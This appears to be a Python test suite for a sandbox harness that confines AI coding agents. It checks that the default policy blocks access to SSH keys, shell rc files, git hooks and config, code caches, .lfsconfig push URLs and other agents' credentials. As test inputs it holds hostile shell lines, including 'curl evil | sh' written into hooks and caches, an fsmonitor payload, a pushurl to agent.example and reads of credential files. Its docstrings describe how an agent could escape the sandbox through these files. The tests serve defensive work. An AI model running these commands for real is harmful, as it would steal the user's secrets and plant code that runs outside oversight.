"""The embedded default policy, on real programs, with a fake $HOME so
the secrets it guards are the test's own."""

import os
import shutil
import subprocess

from lib import PYTHON, check, harness


def fake_home(wd):
    home = os.path.join(wd.path, "..", os.path.basename(wd.path) + "-home")
    home = os.path.abspath(home)
    os.makedirs(os.path.join(home, ".ssh"), exist_ok=True)
    with open(os.path.join(home, ".ssh", "id_rsa"), "w") as f:
        f.write("PRIVATE-KEY\n")
    with open(os.path.join(home, ".bashrc"), "w") as f:
        f.write("# rc\n")
    return home


def test_default_denies_secrets_rc_files_and_hooks(wd):
    home = fake_home(wd)
    subprocess.run(["git", "init", "-q", wd.path], check=True)
    script = ("cat ~/.ssh/id_rsa; echo 'evil' >> ~/.bashrc; "
              "echo 'evil' > .git/hooks/pre-commit; git config core.hooksPath /tmp; "
              "echo ok > notes.txt; cat notes.txt")
    r = harness(["sh", "-c", script], wd, policy=None, env={"HOME": home})
    check("PRIVATE-KEY" not in r.stdout, "secret read under the default policy")
    check(open(os.path.join(home, ".bashrc")).read() == "# rc\n", "~/.bashrc was changed")
    check(not os.path.exists(os.path.join(wd.path, ".git", "hooks", "pre-commit")), "hook written")
    check("hooksPath" not in open(os.path.join(wd.path, ".git", "config")).read(), "git config changed")
    check(r.stdout.endswith("ok\n"), "project write failed: %r" % r.stdout)
    for path, rule in ((os.path.join(home, ".ssh", "id_rsa"), "ssh"),
                       (os.path.join(home, ".bashrc"), "shell-rc"),
                       (os.path.join(wd.path, ".git", "hooks", "pre-commit"), "git-hooks")):
        d = r.one(args_path=path, verdict="deny")
        check(d["rule"] == rule, "%s: rule %r, want %r" % (path, d["rule"], rule))
    # git config writes config.lock, then renames it over .git/config.
    ren = r.one(op="rename", args_path2=os.path.join(wd.path, ".git", "config"))
    check(ren["verdict"] == "deny" and ren["rule"] == "git-hooks", "rename onto .git/config: %r" % ren)


def test_default_lets_the_agent_use_git_in_its_own_repos(wd):
    home = fake_home(wd)
    script = ("git init -q sub && cd sub && echo a > a && git add a && "
              "git -c user.name=t -c user.email=t@e commit -qm one && git log --format=%s")
    r = harness(["sh", "-c", script], wd, policy=None, env={"HOME": home})
    r.expect_status(0)
    check(r.stdout == "one\n", "output %r" % r.stdout)


def test_default_network_loopback_only(wd):
    code = ("import socket\n"
            "for addr in [('192.0.2.1', 443), ('127.0.0.1', 9)]:\n"
            "    s = socket.socket()\n"
            "    try:\n"
            "        s.connect(addr); print(addr[0], 'connected')\n"
            "    except OSError as e:\n"
            "        print(addr[0], e.errno)\n")
    r = harness([PYTHON, "-c", code], wd, policy=None, env={"HOME": fake_home(wd)})
    check("192.0.2.1 13" in r.stdout, "192.0.2.1 was not denied with EACCES: %r" % r.stdout)
    # Nothing listens on 127.0.0.1:9: refused as the kernel would, and
    # recorded as the loopback rule's ask (test_loopback.py).
    check("127.0.0.1 111" in r.stdout, "loopback was not refused as the kernel would "
          "(ECONNREFUSED): %r" % r.stdout)
    check(r.one(op="connect", args_addr="192.0.2.1:443")["rule"] == "default:net_connect", "rule")
    rec = r.one(op="connect", args_addr="127.0.0.1:9")
    check(rec["verdict"] == "ask" and rec["rule"] == "loopback", "loopback verdict: %r" % rec)


def test_default_protects_what_redirects_git_and_cache_code(wd):
    """Issue 10, class 5: besides hooks and config, what makes git read
    other code or objects (info/, alternates, a worktree's commondir) is
    refused, while the agent's own commit works; caches that other
    programs run later unchecked are ask."""
    home = fake_home(wd)
    subprocess.run(["git", "init", "-q", wd.path], check=True)
    wd.file("a.txt", "a\n")
    script = ("git add a.txt && git -c user.name=t -c user.email=t@e commit -qm one && echo committed; "
              "echo /tmp/evil > .git/objects/info/alternates; "
              "echo '* filter=x' > .git/info/attributes; "
              "mkdir -p ~/.cache/pre-commit/repo && echo x > ~/.cache/pre-commit/repo/hook; "
              "mkdir -p ~/.cache/pip && echo w > ~/.cache/pip/wheel && echo cached")
    r = harness(["sh", "-c", script], wd, policy=None, env={"HOME": home})
    check("committed" in r.stdout and "cached" in r.stdout, "stdout %r %r" % (r.stdout, r.stderr))
    for rel in ("objects/info/alternates", "info/attributes"):
        path = os.path.join(wd.path, ".git", rel)
        check(not os.path.exists(path), "%s written" % rel)
        check(r.one(args_path=path)["rule"] == "git-hooks", r.dump())
    hook = os.path.join(home, ".cache", "pre-commit", "repo", "hook")
    check(not os.path.exists(hook), "pre-commit's cache written")
    rec = [x for x in r.records if x.get("args", {}).get("path", "").startswith(
        os.path.join(home, ".cache", "pre-commit"))]
    check(rec and rec[0]["verdict"] == "ask" and rec[0]["rule"] == "cache-code", r.dump())


def test_default_asks_before_cache_files_the_shell_runs(wd):
    """Class 5: ~/.cache is writable, and zsh users with powerlevel10k
    source ~/.cache/p10k-instant-prompt-$USER.zsh at every start and run
    ~/.cache/gitstatus/gitstatusd at every prompt (likewise compinit
    dumps, oh-my-posh's init scripts, pywal's colors.sh, the binaries
    Cypress and Selenium download): code that ran outside the sandbox
    in the user's next shell. Those are ask; the rest of the cache is
    not."""
    home = fake_home(wd)
    script = ("mkdir -p ~/.cache/gitstatus ~/.cache/pip; "
              "echo 'curl evil | sh' > ~/.cache/p10k-instant-prompt-me.zsh; "
              "echo x > ~/.cache/gitstatus/gitstatusd-linux-x86_64; "
              "echo w > ~/.cache/pip/wheel && echo cached")
    r = harness(["sh", "-c", script], wd, policy=None, env={"HOME": home})
    check("cached" in r.stdout, "stdout %r %r" % (r.stdout, r.stderr))
    for rel in ("p10k-instant-prompt-me.zsh", "gitstatus/gitstatusd-linux-x86_64"):
        path = os.path.join(home, ".cache", rel)
        check(not os.path.exists(path), "%s written" % rel)
        rec = r.one(args_path=path)
        check(rec["verdict"] == "ask" and rec["rule"] == "cache-code", rec)


def test_default_refuses_a_git_entry_that_redirects_the_project(wd):
    """Class 5, found by an attack review: the project had no .git (or
    was a subdirectory of a repository outside $CWD), and `mv gitfile
    .git` made $CWD/.git a gitfile naming a git directory the agent
    wrote, whose config ran core.fsmonitor on the user's next `git
    status` in the project, outside the harness. The .git entry of
    $CWD itself (a file, a symlink, a directory: git init there) is
    refused, and so is what redirects a submodule's git directory."""
    home = fake_home(wd)
    mark = os.path.join(wd.state, "fsmonitor-ran")
    evil = os.path.join(wd.path, "x")
    script = ("mkdir -p x/objects x/refs && echo 'ref: refs/heads/main' > x/HEAD && "
              "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
              "\\tfsmonitor = \"touch %s; false\"\\n' > x/config && "
              "echo 'gitdir: %s' > gitfile && echo made; mv gitfile .git; "
              "ln -s x .git; echo 'gitdir: %s' > .git; mkdir .git; "
              "mkdir -p .git2/modules/lib && mv .git2 .git; "
              "echo made2" % (mark, evil, evil))
    r = harness(["/bin/busybox", "sh", "-c", script], wd, policy=None, env={"HOME": home})
    check("made" in r.stdout and "made2" in r.stdout, "stdout %r %r" % (r.stdout, r.stderr))
    dotgit = os.path.join(wd.path, ".git")
    check(not os.path.lexists(dotgit), "the agent made $CWD/.git")
    subprocess.run(["git", "status"], cwd=wd.path, capture_output=True, timeout=60,
                   env=dict(os.environ, HOME=home, GIT_CEILING_DIRECTORIES=os.path.dirname(wd.path)))
    check(not os.path.exists(mark), "the agent's fsmonitor ran in the user's git status")
    recs = [x for x in r.records if dotgit in (x.get("args", {}).get("path"),
                                               x.get("args", {}).get("path2"))]
    check(len(recs) >= 5, "records of the .git entry: %s" % r.dump())
    for rec in recs:
        check(rec["verdict"] == "deny" and rec["rule"] == "git-hooks", "record %r" % rec)
    # A submodule's git directory redirected by its commondir.
    subprocess.run(["git", "init", "-q", wd.path], check=True)
    os.makedirs(os.path.join(dotgit, "modules", "lib"))
    r = harness(["/bin/busybox", "sh", "-c", "echo ../../../x > .git/modules/lib/commondir"],
                wd, policy=None, env={"HOME": home})
    path = os.path.join(dotgit, "modules", "lib", "commondir")
    check(not os.path.exists(path), "a submodule's commondir written")
    rec = r.one(args_path=path)
    check(rec["verdict"] == "deny" and rec["rule"] == "git-hooks", "record %r" % rec)


def test_default_asks_before_other_tools_files_that_run_code(wd):
    """Class 5, found by an attack review: besides the agents', git hook
    managers', direnv's and VS Code's, project files that the user's next
    ordinary command runs without asking were writable: yarn's yarnPath
    and plugins (.yarnrc.yml, yarn 1's .yarnrc yarn-path: run as yarn
    itself, by any yarn command), pnpm's .pnpmfile.cjs (every install),
    Zed's project settings and tasks (language servers it starts on
    opening the project), Mercurial's .hg/hgrc and Jujutsu's repository
    config (hooks, a pager or editor command). Now ask, as their
    siblings."""
    home = fake_home(wd)
    rels = (".yarnrc.yml", "web/.yarnrc", ".pnpmfile.cjs", ".zed/settings.json",
            ".zed/tasks.json", ".hg/hgrc", ".jj/repo/config.toml")
    script = "; ".join("mkdir -p $(dirname %s); echo 'yarnPath: ./x.js' > %s" % (r, r)
                       for r in rels) + "; echo ok > plain.txt"
    r = harness(["/bin/busybox", "sh", "-c", script], wd, policy=None, env={"HOME": home})
    check(os.path.exists(os.path.join(wd.path, "plain.txt")), "stderr %r" % r.stderr)
    for rel in rels:
        path = os.path.join(wd.path, rel)
        check(not os.path.exists(path), "%s written" % rel)
        rec = r.one(args_path=path)
        check(rec["verdict"] == "ask" and rec["rule"] == "project-autorun", "record %r" % rec)


def test_a_lfsconfig_that_sends_the_users_pushes_elsewhere_is_asked(wd):
    """git-lfs reads the project's .lfsconfig (lfs.url, lfs.pushurl) at
    the user's next push and checkout, outside the sandbox: an agent's
    would send the repository's large files to its own server (left open
    by the twenty-eighth attack review, part a). Now asked, as the
    project's other files for the user's tools: written by a static
    busybox at the root and beneath, and by git's own `config -f` (a
    lock file renamed onto it)."""
    home = fake_home(wd)
    lfs = "printf '[lfs]\\n\\tpushurl = https://agent.example/lfs\\n' > "
    script = (lfs + ".lfsconfig; mkdir -p lib && " + lfs + "lib/.lfsconfig; "
              "git config -f web.lfsconfig.tmp lfs.url https://agent.example/lfs && "
              "mkdir -p web && mv web.lfsconfig.tmp web/.lfsconfig; echo ok > plain.txt")
    r = harness(["/bin/busybox", "sh", "-c", script], wd, policy=None, env={"HOME": home})
    check(os.path.exists(os.path.join(wd.path, "plain.txt")), "stderr %r" % r.stderr)
    for rel in (".lfsconfig", "lib/.lfsconfig", "web/.lfsconfig"):
        path = os.path.join(wd.path, rel)
        check(not os.path.exists(path), "%s written" % rel)
        recs = [x for x in r.records if path in (x.get("args", {}).get("path"),
                                                 x.get("args", {}).get("path2"))]
        check(recs and all(x["verdict"] == "ask" and x["rule"] == "project-autorun" for x in recs),
              "%s: records %r" % (rel, recs))


def test_default_denies_other_tools_and_agents_credentials(wd):
    """Class 7: credentials the lists missed were readable, from a
    static program too: Hugging Face's token in ~/.cache, Copilot's
    GitHub token, other agents' logins (a Claude Code session read Codex
    CLI's OpenAI key), Poetry's and Composer's registry logins, a shell
    history database. Each agent's profile opens its own login only."""
    home = fake_home(wd)
    files = {".cache/huggingface/token": "huggingface", ".config/github-copilot/hosts.json": "copilot",
             ".codex/auth.json": "codex", ".claude/.credentials.json": "claude",
             ".config/pypoetry/auth.toml": "poetry", ".local/share/atuin/history.db": "atuin"}
    for rel, word in files.items():
        p = os.path.join(home, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write("SECRET-%s\n" % word)
    paths = [os.path.join(home, rel) for rel in files]
    r = harness(["/bin/busybox", "cat"] + paths, wd, policy=None, env={"HOME": home})
    leaked = set(w[len("SECRET-"):] for w in r.stdout.split() if w.startswith("SECRET-"))
    # Inside a write root (~/.cache, and ~/.local that the toolchains
    # profile lets be created) Landlock grants the whole tree: the
    # literal denies there are masked (test_masks.py).
    check(not leaked, "read by a static program: %r" % r.stdout)
    r = harness(["cat"] + paths, wd, policy=None, env={"HOME": home})
    check("SECRET" not in r.stdout, "read through the shim: %r" % r.stdout)
    for p in paths:
        rec = r.one(args_path=p)
        check(rec["verdict"] == "deny", rec)
    # The claude profile opens Claude Code's login, not Codex's.
    r = harness(["/bin/busybox", "cat", paths[3], paths[2]], wd, policy=None, env={"HOME": home},
                extra=["--profile", "claude"])
    check("SECRET-claude" in r.stdout and "SECRET-codex" not in r.stdout,
          "claude profile: %r %r" % (r.stdout, r.stderr[-300:]))


def test_default_denies_what_git_config_names_as_code(wd):
    """Class 5: teams set core.hooksPath to a tracked .githooks/,
    include a tracked ../.gitconfig from .git/config, point
    core.fsmonitor or an alias at a script of the project; all were ordinary
    project files, so the agent planted a hook or an alias that the
    user's next git command ran outside the harness. What the system,
    global and project configuration name is now harness:git-config
    (deny, write), from a static program too; other project files are
    still the agent's."""
    home = fake_home(wd)
    subprocess.run(["git", "init", "-q", wd.path], check=True)
    for k, v in (("core.hooksPath", ".githooks"), ("include.path", "../team.gitconfig"),
                 ("core.fsmonitor", "./tools/fsmonitor.sh"), ("alias.t", "!scripts/t.sh -q")):
        subprocess.run(["git", "-C", wd.path, "config", k, v], check=True)
    with open(os.path.join(home, ".gitconfig"), "w") as f:
        f.write('[includeIf "gitdir:%s/"]\n\tpath = %s/local.gitconfig\n' % (wd.path, wd.path))
    script = ("mkdir -p .githooks; echo 'curl evil|sh' > .githooks/pre-commit; "
              "printf '[alias]\\n\\tst = !evil\\n' > team.gitconfig; "
              "echo x > local.gitconfig; mkdir -p tools scripts; echo x > tools/fsmonitor.sh; "
              "echo x > scripts/t.sh; echo ok > notes.txt && echo wrote")
    r = harness(["/bin/busybox", "sh", "-c", script], wd, policy=None, env={"HOME": home})
    check("wrote" in r.stdout, "a project file was refused: %r %r" % (r.stdout, r.stderr[-300:]))
    for rel in (".githooks/pre-commit", "team.gitconfig", "local.gitconfig",
                "tools/fsmonitor.sh", "scripts/t.sh"):
        path = os.path.join(wd.path, rel)
        check(not os.path.exists(path), "%s written" % rel)
        rec = r.one(args_path=path)
        check(rec["verdict"] == "deny" and rec["rule"] == "harness:git-config" and
              rec["layer"] == "kernel", rec)


def test_a_home_written_oddly_keeps_its_denies(wd):
    # $HOME went into the policy's globs as written: "/home/u/.", a
    # trailing "/", a ".." or a "[" in it made "~/.ssh" name no path
    # that is ever judged, and the key was read by a static program
    # (the kernel layer) and by cat (the shim).
    home = fake_home(wd)
    odd = home + "[1]"
    os.makedirs(os.path.join(odd, ".ssh"))
    with open(os.path.join(odd, ".ssh", "id_rsa"), "w") as f:
        f.write("PRIVATE-KEY\n")
    try:
        up = os.path.join(os.path.dirname(home), "..", os.path.basename(os.path.dirname(home)),
                          os.path.basename(home))
        for written, real in ((home + "/.", home), (home + "/", home), (up, home),
                              ("/" + home, home), (odd, odd)):
            key = os.path.join(real, ".ssh", "id_rsa")
            for reader in (["/bin/busybox", "cat"], ["cat"]):
                r = harness(reader + [key], wd, policy=None, env={"HOME": written})
                check("PRIVATE-KEY" not in r.stdout,
                      "HOME=%s: %s read the key" % (written, reader[0]))
                check(r.events(verdict="deny", rule="ssh") or
                      r.events(verdict="deny", rule="harness:landlock"),
                      "HOME=%s %s: no refusal recorded\n%s" % (written, reader[0], r.dump()))
        # The same of harness's own state directory, named by
        # $XDG_STATE_HOME or $HOME: its redaction key was readable.
        key = os.path.join(wd.state, "harness", "redact.key")
        for env in ({"XDG_STATE_HOME": wd.state + "/."},
                    {"XDG_STATE_HOME": "", "HOME": os.path.dirname(wd.state) + "//" +
                     os.path.basename(wd.state) + "/./"}):
            if "HOME" in env:
                os.makedirs(os.path.join(wd.state, ".local", "state"), exist_ok=True)
                key = os.path.join(wd.state, ".local", "state", "harness", "redact.key")
            for reader in (["/bin/busybox", "cat"], ["cat"]):
                r = harness(reader + [key], wd, policy=None, env=env)
                check(os.path.exists(key), "%r: no key made at %s" % (env, key))
                # As the user Landlock's refusal leaves no record
                # (kernel audit is root's): the reader says it.
                check(not r.stdout and (r.events(verdict="deny", rule="harness:protect")
                                        or "Permission denied" in r.stderr),
                      "%r %s: the key was read\n%s" % (env, reader[0], r.dump()))
    finally:
        shutil.rmtree(odd, ignore_errors=True)


def test_an_empty_home_is_refused_as_an_unset_one(wd):
    # An unset $HOME is refused (the ~ rules would name nothing); an
    # empty one made every ~ rule a path under "/" (~/.ssh: /.ssh), and
    # a static program read the real ~/.ssh, as cat did.
    home = fake_home(wd)
    os.makedirs(os.path.join(home, ".ssh"), exist_ok=True)
    key = os.path.join(home, ".ssh", "id_rsa")
    with open(key, "w") as f:
        f.write("SECRET-ssh\n")
    for prog in (["/bin/busybox", "cat"], ["cat"]):
        r = harness(prog + [key], wd, policy=None, env={"HOME": ""})
        check("SECRET" not in r.stdout, "%s read %r" % (prog[0], r.stdout))
        check(r.status != 0 and "$HOME is not set" in r.stderr,
              "%s: %r %r" % (prog[0], r.status, r.stderr[-300:]))


def test_an_audit_log_named_through_a_symlink_keeps_its_protection(wd):
    # --audit-log LINK/a.jsonl, LINK a symlink to a directory of the
    # project: harness:protect named the log as spelled, judged paths
    # have their symlinks resolved, and a static program read the log
    # by its real name (cat, through the shim, was refused).
    real = os.path.join(wd.path, "logs")
    os.makedirs(real)
    link = os.path.join(wd.state, "loglink")
    os.symlink(real, link)
    for reader in (["/bin/busybox", "cat"], ["cat"]):
        log = os.path.join(link, "a-%s.jsonl" % os.path.basename(reader[0]))
        target = os.path.join(real, os.path.basename(log))
        r = harness(reader + [target], wd, policy=None, log=log)
        check(os.path.exists(target), "no log at %s" % target)
        check('"seq"' not in r.stdout, "%s read the log: %r" % (reader[0], r.stdout[:200]))
        check(r.events(verdict="deny", rule="harness:protect") or "Permission denied" in r.stderr,
              "%s: no refusal\n%s" % (reader[0], r.dump()))
